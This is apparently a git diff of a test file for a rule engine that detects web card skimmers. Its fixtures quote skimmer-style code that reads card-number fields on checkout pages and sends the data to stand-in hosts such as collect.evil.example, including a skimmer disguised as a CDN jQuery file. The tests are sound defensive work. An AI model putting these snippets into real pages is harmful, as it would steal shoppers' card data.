@@ -3,6 +3,7 @@
 import { describe, expect, it } from 'vitest';
 import { defaultRules } from './rules.defaults.js';
 import { compileRule, type RuleSubject } from './rules.engine.js';
+import { ruleSetOf } from './rules.match.js';
 
 const script = (content: string, more: Partial<RuleSubject> = {}): RuleSubject => ({
   content,
@@ -23,29 +24,34 @@ const cases: Record<string, { hit: RuleSubject; miss: RuleSubject }> = {
   },
   'VGL-SKIM-001': {
     hit: script(
-      'if (window.location.href.indexOf("onepage") > -1) { var f = document.querySelectorAll("input, select"); }',
+      'if (/checkout|onepage/.test(location.href)) { var f = document.querySelector(\'[autocomplete="cc-number"]\'); }',
     ),
     miss: script('if (window.location.href.indexOf("onepage") > -1) { trackStep(3); }'),
   },
   'VGL-SKIM-002': {
-    hit: script('var n = document.querySelector("#cc-number").value;', { behaviours: ['sends_data'] }),
-    miss: script('var n = document.querySelector("#cc-number").value;', { behaviours: [] }),
+    hit: script('var n = document.querySelector("#cc-number").value;', { behaviours: ['sends_data_elsewhere'] }),
+    miss: script('var n = document.querySelector("#cc-number").value;', { behaviours: ['sends_data'] }),
   },
   'VGL-SKIM-003': {
-    hit: script('', { behaviours: ['reads_card_fields', 'sends_data'] }),
-    miss: script('', { behaviours: ['reads_card_fields'] }),
+    hit: script('', { behaviours: ['reads_card_fields', 'sends_data', 'sends_data_elsewhere'] }),
+    miss: script('', { behaviours: ['reads_card_fields', 'sends_data'] }),
   },
   'VGL-SKIM-004': {
-    hit: script('form.addEventListener("submit", function () { var d = inp.value; navigator.sendBeacon("/c", d); });'),
-    miss: script('form.addEventListener("submit", function () { var d = inp.value; validate(d); });'),
+    hit: script(
+      'form.addEventListener("submit", function () { var d = inp.value; navigator.sendBeacon("https://x.example/c", d); });',
+      { behaviours: ['sends_data', 'sends_data_elsewhere'] },
+    ),
+    miss: script('form.addEventListener("submit", function () { var d = inp.value; fetch("/api/pay", d); });', {
+      behaviours: ['sends_data'],
+    }),
   },
   'VGL-SKIM-005': {
     hit: script('localStorage.setItem("cc_num", field.value);'),
     miss: script('localStorage.setItem("theme", "dark");'),
   },
   'VGL-SKIM-006': {
-    hit: script('', { behaviours: ['reads_personal_fields', 'sends_data'] }),
-    miss: script('', { behaviours: ['reads_personal_fields'] }),
+    hit: script('', { behaviours: ['reads_personal_fields', 'sends_data_elsewhere'] }),
+    miss: script('', { behaviours: ['reads_personal_fields', 'sends_data'] }),
   },
   'VGL-EXFIL-001': {
     hit: script('var p = btoa(JSON.stringify(data)); fetch("https://x.example/c?d=" + p);'),
@@ -122,4 +128,75 @@ describe('the default rules', () => {
       expect(compiled.match(miss), `${rule.key} should miss`).toBeNull();
     });
   }
+});
+
+describe('the default set on a page', () => {
+  const rules = ruleSetOf(
+    defaultRules.map((r, i) => ({
+      rule: {
+        id: i + 1,
+        key: r.key,
+        name: r.name,
+        family: r.family,
+        severity: r.severity,
+        version: 1,
+        reference: null,
+      },
+      compiled: compileRule(r.definition),
+    })),
+  );
+  const external = (url: string, content: string, reads: ('card' | 'personal')[] = []) => ({
+    key: url,
+    kind: 'external' as const,
+    url,
+    host: new URL(url).hostname,
+    party: 'third' as const,
+    loadedBy: null,
+    sha256: '0'.repeat(64),
+    sri: false,
+    size: content.length,
+    content,
+    reads,
+  });
+  const send = (initiator: string, url: string, kind: 'fetch' | 'beacon' | 'image' = 'fetch') => ({
+    initiator,
+    host: new URL(url).hostname,
+    url,
+    kind,
+  });
+
+  it('flags a skimmer disguised as a CDN library, and not the store’s own checkout code', () => {
+    const skimmer = external(
+      'https://cdn.jquery-static.example/jquery-3.7.1.min.js',
+      `if (!/checkout|payment|onepage/.test(location.href)) return;
+       var card = document.querySelector('[autocomplete="cc-number"]');
+       var data = btoa(card.value); fetch(sink + '/c', { body: data });`,
+      ['card'],
+    );
+    const skimmerHits = rules
+      .match(skimmer, [send(skimmer.key, 'https://collect.evil.example/c')])
+      .map((h) => h.rule.key);
+    expect(skimmerHits).toEqual(
+      expect.arrayContaining(['VGL-TYPO-001', 'VGL-SKIM-001', 'VGL-SKIM-002', 'VGL-SKIM-003', 'VGL-EXFIL-001']),
+    );
+    const checkout = {
+      ...external(
+        'https://www.shop.example/app.js',
+        `form.addEventListener('submit', function () {
+           var number = document.getElementById('cc-number').value;
+           fetch('/api/pay', { method: 'POST', body: JSON.stringify({ n: number.length }) });
+         });`,
+        ['card'],
+      ),
+      party: 'first' as const,
+    };
+    expect(rules.match(checkout, [send(checkout.key, 'https://api.shop.example/pay')])).toEqual([]);
+    const inline = { ...checkout, key: 'inline:1', kind: 'inline' as const, url: null, host: null };
+    const toStore = [send('inline:1', 'https://www.shop.example/api/pay')];
+    expect(rules.match(inline, toStore, 'https://www.shop.example/checkout')).toEqual([]);
+    const toEvil = [send('inline:1', 'https://collect.evil.example/c', 'image')];
+    expect(rules.match(inline, toEvil, 'https://www.shop.example/checkout').map((h) => h.rule.key)).toContain(
+      'VGL-SKIM-003',
+    );
+  });
 });
